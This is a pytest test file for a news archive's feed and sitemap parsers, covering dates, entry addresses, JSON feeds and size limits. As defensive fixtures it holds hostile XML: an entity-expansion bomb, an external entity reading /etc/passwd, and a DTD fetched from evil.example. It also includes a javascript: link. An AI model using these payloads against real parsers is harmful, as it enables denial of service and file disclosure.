"""Feeds of every family are read from bytes; none is opened, and none is trusted."""

import gzip
import json
import time
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from newsarchive.discover import measure
from newsarchive.discover.feed import read_feed
from newsarchive.discover.measure import GZIP_MAGIC
from newsarchive.discover.sitemap import read_sitemap
from newsarchive.sources import Source

HOME = "https://lamp.example/"
URL = HOME + "feed/"
RSS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>The Lamp</title>
<item><title>Lock &amp; key</title><link>https://lamp.example/lock/</link><pubDate>{date}</pubDate>
<description>&lt;p&gt;The &lt;b&gt;water&lt;/b&gt; is back.&lt;/p&gt;</description></item></channel></rss>"""
BOMB = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><rss><channel>&d;</channel>
</rss>"""


def test_twenty_real_feeds_give_their_entries(shared: Path) -> None:
    for line in (shared / "corpus" / "feeds.jsonl").read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        read = read_sitemap if row["kind"] == "sitemap" else read_feed
        body = gzip.decompress((shared / "corpus" / row["file"]).read_bytes())
        reading = read(body, URL)
        if body.startswith(GZIP_MAGIC):  # packed, which its counter did not open
            assert reading.entries > row["n_entries"] == 0, row["id"]
        else:
            assert reading.entries == row["n_entries"], row["id"]


def test_an_item_is_a_link_with_its_own_date() -> None:
    reading = read_feed(RSS.format(date="Wed, 28 May 2025 19:35:12 +0200").encode(), URL)
    (link,) = reading.links
    assert (link.url, link.anchor, link.teaser) == (
        "https://lamp.example/lock/",
        "Lock & key",
        "The water is back.",
    )
    assert (link.date_hint, link.date_precision) == (datetime(2025, 5, 28, 17, 35, 12, tzinfo=UTC), "second")
    assert not link.is_modified_hint


@pytest.mark.parametrize(("written", "hour"), [
    ("Wed, 28 May 2025 12:00:00 EST", 17), ("2025-05-28T12:00:00Z", 12), ("2025-05-28T12:00:00-05:00", 17),
    ("2025-05-28 12:00:00", 11),  # no offset: the site's own zone, Lisbon in summer
])  # fmt: skip
def test_zones_of_feed_dates(make_source: Callable[..., Source], written: str, hour: int) -> None:
    (link,) = read_feed(RSS.format(date=written).encode(), URL, make_source({"feed": URL})).links
    assert link.date_hint == datetime(2025, 5, 28, hour, tzinfo=UTC)


@pytest.mark.parametrize("form", [
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"{dc}>{item}</rdf:RDF>',
    '<rss version="2.0"{dc}><channel>{item}</channel></rss>',
])  # fmt: skip
def test_dublin_cores_date_is_that_of_publication_where_feeds_have_no_other(form: str) -> None:
    """RSS 1.0 has no date of its own; it was taken for a change, and its stories had no day."""
    item = "<item><title>Ferry</title><link>https://lamp.example/ferry/</link><dc:date>2025-05-28T10:00:00Z</dc:date></item>"
    feed = form.format(dc=' xmlns:dc="http://purl.org/dc/elements/1.1/"', item=item)
    (link,) = read_feed(feed.encode(), URL).links
    assert (link.date_hint, link.is_modified_hint) == (datetime(2025, 5, 28, 10, tzinfo=UTC), False)


def test_updated_alone_is_only_an_upper_bound() -> None:
    atom = """<feed xmlns="http://www.w3.org/2005/Atom">
    <link rel="next" href="https://lamp.example/feed/2"/><entry>
    <title>Ferry</title><link href="/ferry/"/><updated>2025-05-28T10:00:00Z</updated></entry></feed>"""
    reading = read_feed(atom.encode(), URL)
    assert reading.links[0].url == "https://lamp.example/ferry/"
    assert reading.links[0].is_modified_hint
    assert reading.next_url == "https://lamp.example/feed/2"


HARBOUR = "https://lamp.example/news/harbour"
FRONT = "<link>https://lamp.example/</link>"


@pytest.mark.parametrize("item", [
    f"<item>{FRONT}<guid>{HARBOUR}</guid></item>",  # all items of some feeds lead to the front page
    f"<item>{FRONT}<guid isPermaLink='false'>{HARBOUR}</guid></item>",
    f"<item><guid isPermaLink='false'>{HARBOUR}</guid></item>",
    f"<item>{FRONT}<pheedo:origLink>{HARBOUR}</pheedo:origLink></item>",
    f"<entry><id>7</id><link rel='self' href='{HARBOUR}'/></entry>",
    f"<entry><id>7</id><content type='text/html' src='{HARBOUR}'/></entry>",
    f"<entry><id>{HARBOUR}</id><link rel='enclosure' href='/a.mp3'/></entry>",
])  # fmt: skip
def test_an_entry_is_known_by_whatever_names_its_page(item: str) -> None:
    feed = f'<feed xmlns="http://www.w3.org/2005/Atom">{item}</feed>'
    rss = f'<rss version="2.0" xmlns:pheedo="http://www.pheedo.com/namespace/pheedo"><channel>{item}</channel></rss>'
    reading = read_feed((feed if "<entry>" in item else rss).encode(), "https://lamp.example/feed/")
    assert ([link.url for link in reading.links], reading.problem) == ([HARBOUR], None)


def test_entries_that_all_lead_to_the_front_page_are_told() -> None:
    items = "".join(f"<item><link>https://lamp.example/#{number}</link></item>" for number in range(3))
    reading = read_feed(
        f"<rss version='2.0'><channel>{items}</channel></rss>".encode(), "https://lamp.example/feed/"
    )
    assert reading.problem == "3 of 3 entries lead to the front page"


@pytest.mark.parametrize("title", ["café", "two\nlines"])
def test_json_that_is_none_to_the_letter_is_read(title: str) -> None:
    feed = f'{{"items": [{{"url": "{HARBOUR}", "title": "{title}"}}]}}'
    (link,) = read_feed(feed.encode("latin-1"), "https://lamp.example/feed/").links
    assert (link.url, link.anchor) == (HARBOUR, " ".join(title.split()))


def test_json_feed() -> None:
    feed = {"version": "https://jsonfeed.org/version/1.1", "next_url": URL + "2", "items": [
        {"id": "1", "url": "/a#top", "title": "A", "date_published": "2025-05-28T10:00:00+01:00"},
        {"id": "2", "url": "javascript:alert(1)"}, {"id": "3"}, "rubbish",
        {"id": HOME + "an-id-that-is-an-address"}]}  # fmt: skip
    reading = read_feed(json.dumps(feed).encode(), URL)
    assert [link.url for link in reading.links] == [HOME + "a", HOME + "an-id-that-is-an-address"]
    assert reading.links[0].date_hint == datetime(2025, 5, 28, 9, tzinfo=UTC)
    assert (reading.entries, reading.next_url) == (5, URL + "2")
    assert reading.problem == "3 of 5 entries have no address that can be asked for"


@pytest.mark.parametrize(
    "wrapped",
    ["{}", '{{"status": "ok", "more": [7], "posts": {}}}', '{{"response": {{"more": {{}}, "results": {}}}}}'],
)
def test_a_list_of_posts_in_json_is_a_feed(wrapped: str) -> None:
    """As sites' own services give it: it had been 'no feed'."""
    posts = [
        {"id": 7, "link": HOME + "a/", "title": {"rendered": "A &amp; B"}, "date": "2025-05-28T10:00:00"},
        {"slug": "b", "url": "/b/", "headline": "B", "publishedAt": "2025-05-28T11:00:00Z"},
        {"permalink": HOME + "c/", "name": "C", "updated_at": "2025-05-28 12:00:00 +0000"},
        {"id": "d"},
    ]
    reading = read_feed(wrapped.format(json.dumps(posts)).encode(), URL)
    assert [(link.url, link.anchor, link.date_hint and link.date_hint.hour) for link in reading.links] == [
        (HOME + "a/", "A & B", 10), (HOME + "b/", "B", 11), (HOME + "c/", "C", 12)]  # fmt: skip
    assert [link.is_modified_hint for link in reading.links] == [False, False, True]
    assert reading.problem == "1 of 4 entries have no address that can be asked for"


@pytest.mark.parametrize(
    ("address", "published"),
    [
        ("canonical_url", "publish_date"), ("canonical_url", "display_date"), ("canonical_url", "post_date"),
        ("web_url", "pub_date"), ("webUrl", "webPublicationDate"), ("fullUrl", "publishOn"),
    ],
)  # fmt: skip
def test_the_names_that_other_services_have_for_address_and_date(address: str, published: str) -> None:
    """Their posts had no date, so that no past day could have them, or no address at all."""
    posts = {"docs": [{address: "/a-tale", "title": "A", published: "2025-05-28T10:00:00Z"}]}
    (link,) = read_feed(json.dumps(posts).encode(), URL).links
    assert (link.url, link.date_hint and link.date_hint.hour) == (HOME + "a-tale", 10)


@pytest.mark.parametrize(
    ("address", "titles", "told"),
    [
        ("ticker#n{}", 4, "4 of 4 entries lead to a page that others lead to as well: it is visited once"),
        ("ticker", 4, "4 of 4 entries lead to a page that others lead to as well: it is visited once"),
        ("tale-of-the-sea", 2, None),
        ("tale-{}#comments", 4, None),
    ],
)
def test_entries_that_share_a_page_are_told(address: str, titles: int, told: str | None) -> None:
    """News told below one another on one page, each with a part of its own, had been one link without a word."""
    items = "".join(
        f"<item><title>Headline {number}</title><link>{HOME}{address.format(number)}</link></item>"
        for number in range(titles)
    )
    reading = read_feed(f"<rss version='2.0'><channel>{items}</channel></rss>".encode(), URL)
    assert reading.problem == told


@pytest.mark.parametrize("body", [b"[1, 2]", b'[{"id": 1}]', b'{"a": [{"url": "/a"}], "b": [{"url": "/b"}]}'])
def test_json_of_which_no_list_is_known_to_be_posts_is_no_feed(body: bytes) -> None:
    reading = read_feed(body, URL)
    assert reading.links == [] and "no items" in (reading.problem or "")


@pytest.mark.parametrize("body", [
    b"", b"<html><body>Not found</body></html>", b"/etc/passwd", b"http://127.0.0.1:1/", b"{", b'{"a": 1}',
    b"[" * 9999,
    b'{"items":' + b"[" * 50_000,
])  # fmt: skip
def test_what_is_no_feed_says_so(body: bytes) -> None:
    reading = read_feed(body, URL)
    assert reading.links == []
    assert reading.problem


@pytest.mark.parametrize("body", [
    BOMB, BOMB.replace(b"<!ENTITY a", b"<!-- x --><!ENTITY a"), BOMB.decode().encode("utf-16"),
    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss><channel/></rss>',
])  # fmt: skip
@pytest.mark.parametrize("read", [read_feed, read_sitemap])
def test_hostile_xml_is_refused_at_once(body: bytes, read: Callable[..., object]) -> None:
    began = time.process_time()
    reading = read(body, URL)
    assert time.process_time() - began < 10
    assert "refused" in (reading.problem or "")  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Goal &#55357;&#56832;!", "Goal \U0001f600!"),  # an emoji as two halves, as some systems write it
        ("Goal &#xD83D;&#xDE00;&#33;", "Goal \U0001f600!"),
        ("Goal &#xd800;!", "Goal \ufffd!"),
        ("Goal &#8211; at last", "Goal – at last"),
    ],
)
def test_halves_of_a_character_cost_no_feed(written: str, title: str) -> None:
    """No XML parser takes them, and the tolerant one of feedparser raises: found by fuzzing."""
    text = RSS.format(date="Wed, 28 May 2025 19:35:12 +0200").replace("Lock &amp; key", written)
    assert [link.anchor for link in read_feed(text.encode(), URL).links] == [title]
    broken = (
        "<rss><channel><p>&#xd800;</channel><item><title>x</title><link>https://lamp.example/a/</link></item>"
    )
    assert read_feed(broken.encode(), URL).entries == 1


def test_a_feed_is_read_to_eight_megabytes() -> None:
    item = "<item><title>Story {0}</title><link>https://lamp.example/a-story-{0}/</link></item>"
    long = (
        "<rss version='2.0'><channel>"
        + "".join(map(item.format, range(2000)))
        + "<p>"
        + "x" * measure.MAX_BYTES
    )
    reading = read_feed(long.encode() + b"<item><link>https://lamp.example/beyond/</link></item>", URL)
    assert len(reading.links) == 2000
    assert reading.problem == "read to its first 8000000 bytes"


@pytest.mark.parametrize("body", [
    "<rss version='2.0'><channel>" + "<item><link>https://lamp.example/a/</link></item>" * 30,
    json.dumps({"items": [{"url": "https://lamp.example/a/"}] * 30}),
])  # fmt: skip
def test_a_feed_is_read_to_a_number_of_entries(body: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("newsarchive.discover.feed_entries.MAX_ENTRIES", 20)
    reading = read_feed(body.encode(), URL)
    assert (len(reading.links), reading.problem) == (20, "read to its first 20 entries of 30")


def test_a_feed_is_read_to_a_number_of_tags(monkeypatch: pytest.MonkeyPatch) -> None:
    """Time goes by tags, not by bytes: eight megabytes of `<a>` would take a minute and a half."""
    monkeypatch.setattr(measure, "MAX_TAGS", 2 + 100 * 6)
    item = "<item><title>Story</title><link>https://lamp.example/a-story-{0}/</link></item>"
    many = "<rss version='2.0'><channel>" + "".join(map(item.format, range(1000)))
    reading = read_feed(many.encode(), URL)
    assert (len(reading.links), reading.problem) == (100, "read to its first 602 tags")


def test_harmless_entities_are_not_hostile() -> None:
    body = b'<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>' + RSS.format(date="").encode().partition(b"?>")[2]
    assert len(read_feed(body, URL).links) == 1


@pytest.mark.parametrize(
    "written",
    [
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "Thu, 01 Jan 1970 01:00:00 +0100",
        "0000-00-00 00:00:00",
        "Wed, 30 Nov -0001 00:00:00 +0000",
        "Mon, 01 Jan 0001 00:00:00 GMT",
        "Fri, 01 Jan 2099 00:00:00 GMT",
        "Tue, 19 Jan 2038 03:14:07 GMT",
        "0",
        "Invalid Date",
    ],
)
def test_a_date_that_no_entry_can_have_is_none(written: str) -> None:
    """What was empty in somebody's database, and days to come: a live run takes the entry, and none files it there."""
    seen_at = datetime(2026, 5, 3, tzinfo=UTC)
    feed = f"<rss version='2.0'><channel><item><link>{URL}a</link><pubDate>{written}</pubDate></item></channel></rss>"
    news = (
        f"<urlset xmlns:n='http://www.google.com/schemas/sitemap-news/0.9'><url><loc>{URL}a-tale-of-the-sea</loc>"
        f"<n:news><n:publication_date>{written}</n:publication_date></n:news></url></urlset>"
    )
    for reading in (
        read_feed(feed.encode(), URL, None, seen_at),
        read_sitemap(news.encode(), URL, seen_at=seen_at),
    ):
        assert [link.date_hint for link in reading.links] == [None]


def test_of_a_past_day_an_entry_without_a_date_goes_with_its_neighbours_or_is_told(
    make_source: Any, walk: Any
) -> None:
    source = make_source({"feed": "https://lamp.example/feed", "pages": "?p={page}"})
    dates = (
        "28 May 2025 10:00 GMT",
        "",
        "28 May 2025 09:00 GMT",
        "1 Jan 1970 00:00 GMT",
        "26 May 2025 09:00 GMT",
    )
    items = "".join(
        f"<item><link>https://lamp.example/2025/{number}</link><pubDate>{at}</pubDate></item>"
        for number, at in enumerate(dates)
    )
    discovery, _ = walk(
        source, lambda url: f"<rss version='2.0'><channel>{items}</channel></rss>".encode(), date(2025, 5, 28)
    )
    assert [link.link.url[-1] for link in discovery.found] == ["0", "1", "2"]
    assert any("1 of 5 entries have no date that can be theirs" in told for told in discovery.shortfalls)


@pytest.mark.parametrize(
    ("written", "target"),
    [
        ("www.lamp.example/a", "https://www.lamp.example/a"),
        ("lamp.example/a/b?c=1", "https://lamp.example/a/b?c=1"),
        ("news.lamp.example/", "https://lamp.example/feed/news.lamp.example/"),
        ("else.example/a", "https://lamp.example/feed/else.example/a"),
        ("a.html/b", "https://lamp.example/feed/a.html/b"),
        ("/lamp.example/a", "https://lamp.example/lamp.example/a"),
    ],
)
def test_an_address_that_lacks_its_scheme_alone(written: str, target: str) -> None:
    """Each lay below the listing's own address, where nothing is."""
    feed = f"<rss version='2.0'><channel><item><link>{written}</link></item></channel></rss>"
    assert [link.url for link in read_feed(feed.encode(), "https://lamp.example/feed/").links] == [target]


def test_places_of_a_sitemap_that_lack_their_scheme() -> None:
    places = b"<urlset><url><loc>www.lamp.example/a-tale-of-the-sea</loc></url></urlset>"
    reading = read_sitemap(places, "https://lamp.example/maps/sitemap.xml")
    assert [link.url for link in reading.links] == ["https://www.lamp.example/a-tale-of-the-sea"]
